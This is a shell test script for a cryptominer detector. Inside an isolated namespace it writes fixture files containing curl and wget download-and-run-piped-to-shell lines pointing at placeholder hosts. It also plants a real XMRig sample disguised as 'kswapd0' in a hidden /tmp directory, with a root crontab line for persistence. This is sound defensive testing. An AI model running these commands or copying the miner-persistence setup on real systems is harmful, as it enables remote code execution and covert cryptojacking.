#!/bin/sh
# noise-live.sh - signal over noise on the live root "/": in a mount namespace of its own
# (tmpfs over /tmp, /var/tmp and /var/spool, nothing of this machine touched), /tmp holds
# what a developer's machine holds: a git working tree of shell scripts and test fixtures
# (some download and run things, as install scripts do), a Python virtualenv, a
# node_modules, a build directory and a downloaded tarball. A live scan must report none
# of it at high or above. Then the real XMRig is dropped in a hidden campaign directory
# of /tmp with a root crontab line running it: the miner and its cron line are critical
# and one incident.
set -eu
MT=${MINETRACE:-build/minetrace}
here=$(cd "$(dirname "$0")" && pwd)
SAMPLE=${XMRIG:-${MINETRACE_SAMPLES:-$here/../../../shared/data/samples}/xmrig}
[ -f "$SAMPLE" ] || SAMPLE=/work/shared/data/samples/xmrig
fail() { echo "FAIL noise-live: $*"; exit 1; }
[ -f "$SAMPLE" ] || { echo "SKIP noise-live: no sample at $SAMPLE"; exit 0; }
command -v git >/dev/null || { echo "SKIP noise-live: no git"; exit 0; }
MT=$(cd "$(dirname "$MT")" && pwd -P)/$(basename "$MT")
out=$(mktemp -d /run/minetrace-noise.XXXXXX)
trap '[ -n "${KEEP:-}" ] || rm -rf "$out"' EXIT
trap 'exit 130' INT TERM HUP
# the binary and the sample go beside the outputs: the checkout itself may lie under the
# /tmp the namespace covers
cp "$MT" "$out/minetrace"
cp "$SAMPLE" "$out/xmrig.sample"
MT=$out/minetrace SAMPLE=$out/xmrig.sample
rc=0
# shellcheck disable=SC2016
unshare -m sh -eu -c '
	mt=$1 sample=$2 out=$3
	mount --make-rprivate /
	for d in /tmp /var/tmp /var/spool; do mount -t tmpfs -o mode=1777 mt-noise "$d"; done
	mkdir -p /var/spool/cron/crontabs
	# a checkout with its scripts and fixtures
	t=/tmp/sectool
	mkdir -p $t/scripts $t/tests/fixtures/tmp/.X25-unix/.rsync $t/tests/scenario/cron
	printf "#!/bin/sh\ncurl -fsSL https://pastebin.com/raw/abc123 | sh\n" >$t/scripts/install-deps.sh
	printf "#!/bin/sh\nwget -q -O- http://203.0.113.9/x.sh | bash\n" >$t/tests/fixtures/dropper.sh
	printf "*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n" >$t/tests/scenario/cron/root
	printf "#!/bin/sh\necho fixture\n" >$t/tests/fixtures/tmp/.X25-unix/.rsync/kswapd0
	chmod +x $t/scripts/*.sh $t/tests/fixtures/*.sh $t/tests/fixtures/tmp/.X25-unix/.rsync/kswapd0
	(cd $t && git init -q && git add -A && git -c user.email=t@t -c user.name=t commit -qm fixtures)
	# a virtualenv, a node_modules, a build directory, a downloaded tarball
	python3 -m venv --without-pip /tmp/venv >/dev/null 2>&1 || mkdir -p /tmp/venv/bin
	printf "home = /usr/bin\n" >/tmp/venv/pyvenv.cfg
	printf "#!/bin/sh\nexport VIRTUAL_ENV=/tmp/venv\n" >/tmp/venv/bin/activate
	mkdir -p /tmp/webapp/node_modules/esbuild/bin /tmp/webapp/node_modules/.bin
	printf "{\"name\":\"webapp\",\"scripts\":{\"postinstall\":\"node install.js\"}}\n" >/tmp/webapp/package.json
	printf "#!/usr/bin/env node\nrequire(\"child_process\").execSync(\"curl -fsSL https://registry.npmjs.org/x | sh\")\n" \
		>/tmp/webapp/node_modules/esbuild/bin/esbuild
	chmod +x /tmp/webapp/node_modules/esbuild/bin/esbuild
	mkdir -p /tmp/build-linux/CMakeFiles/tool.dir /tmp/build-ninja
	printf "CMAKE_BUILD_TYPE:STRING=Release\n" >/tmp/build-linux/CMakeCache.txt
	printf "all:\n\t\$(MAKE) -f CMakeFiles/Makefile2 all\n" >/tmp/build-linux/Makefile
	cp /bin/true /tmp/build-linux/tool
	cp /bin/true /tmp/build-linux/CMakeFiles/tool.dir/tool.o
	printf "ninja_required_version = 1.5\n" >/tmp/build-ninja/build.ninja
	cp /bin/true /tmp/build-ninja/helper
	mkdir -p /tmp/dl && tar -czf /tmp/dl/app-1.2.tar.gz -C /tmp sectool/scripts
	"$mt" scan --format json --sample 0 >"$out/clean.jsonl" || true
	# the intrusion: the real miner in a hidden place, a crontab line running it
	mkdir -p /tmp/.X25-unix/.rsync
	cp "$sample" /tmp/.X25-unix/.rsync/kswapd0
	chmod 755 /tmp/.X25-unix/.rsync/kswapd0
	printf "*/10 * * * * /tmp/.X25-unix/.rsync/kswapd0 -B >/dev/null 2>&1\n" >/var/spool/cron/crontabs/root
	chmod 600 /var/spool/cron/crontabs/root
	"$mt" scan --format json --sample 0 >"$out/infected.jsonl" || true
' sh "$MT" "$SAMPLE" "$out" || rc=$?
[ $rc -eq 0 ] || fail "the namespace script: exit $rc"
python3 "$here/../scenario/contract.py" "$out/clean.jsonl" || fail "contract (clean)"
python3 "$here/../scenario/contract.py" "$out/infected.jsonl" || fail "contract (infected)"
python3 - "$out/clean.jsonl" "$out/infected.jsonl" <<'EOT' || exit 1
import json, sys
def ours(path):
    fs = [o for o in map(json.loads, open(path)) if o["type"] == "finding"]
    return [o for o in fs if any(isinstance(v, str) and (v.startswith("/tmp/") or v.startswith("/var/spool/cron"))
                                 for v in o["evidence"].values())]
clean = ours(sys.argv[1])
high = [o for o in clean if o["severity"] in ("high", "critical")]
for o in high:
    print("  ", o["severity"], o["check"], json.dumps(o["evidence"])[:300])
assert not high, "%d finding(s) at high or above about the developer's files" % len(high)
assert any(o["evidence"].get("path", "").startswith("/tmp/sectool/") for o in clean), \
    "the work tree's download-and-run scripts are not even listed (low): %r" % clean
inf = ours(sys.argv[2])
miner = [o for o in inf if o["evidence"].get("path") == "/tmp/.X25-unix/.rsync/kswapd0" and o["severity"] == "critical"]
cron = [o for o in inf if o["check"] == "persist.cron" and o["severity"] == "critical"]
assert miner and cron, "miner %r, cron %r" % (miner, cron)
assert miner[0].get("incident") and miner[0]["incident"] == cron[0]["incident"], \
    "the miner (incident %r) and its cron line (incident %r) are not one incident" % (miner[0].get("incident"), cron[0].get("incident"))
still = [o for o in inf if o["evidence"].get("path", "").startswith(("/tmp/sectool/", "/tmp/webapp/", "/tmp/venv/", "/tmp/build-linux/", "/tmp/build-ninja/", "/tmp/dl/")) and o["severity"] in ("high", "critical")]
assert not still, still
print("noise-live: the developer's /tmp stays below high (%d low or info lines); the miner and its cron line are one critical incident" % len(clean))
EOT
